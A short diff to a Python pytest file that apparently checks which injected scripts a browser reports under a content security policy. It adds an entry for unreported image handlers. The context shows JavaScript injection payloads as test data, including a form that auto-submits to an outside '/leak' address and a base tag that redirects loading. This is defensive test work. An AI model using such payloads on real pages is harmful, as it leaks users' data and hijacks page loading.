@@ -144,7 +144,9 @@ INJECTIONS = {
     "a form": "document.body.insertAdjacentHTML('beforeend', `<form id=bad action='${elsewhere}/leak'></form>`); bad.submit()",
     "another base": "document.head.insertAdjacentHTML('afterbegin', `<base href='${elsewhere}/'>`)",
 }
-NOT_TOLD = ("Function", "a frame")  # functions.js does not even ask the browser; what a frame may not, is told in the frame
+# functions.js does not even ask the browser; what a frame may not, is told in the frame; of a picture's handler, which it does not
+# run either, Chromium 150 does not tell.
+NOT_TOLD = ("Function", "a frame", "a handler in a picture")
 
 
 @pytest.mark.parametrize("injection", INJECTIONS)
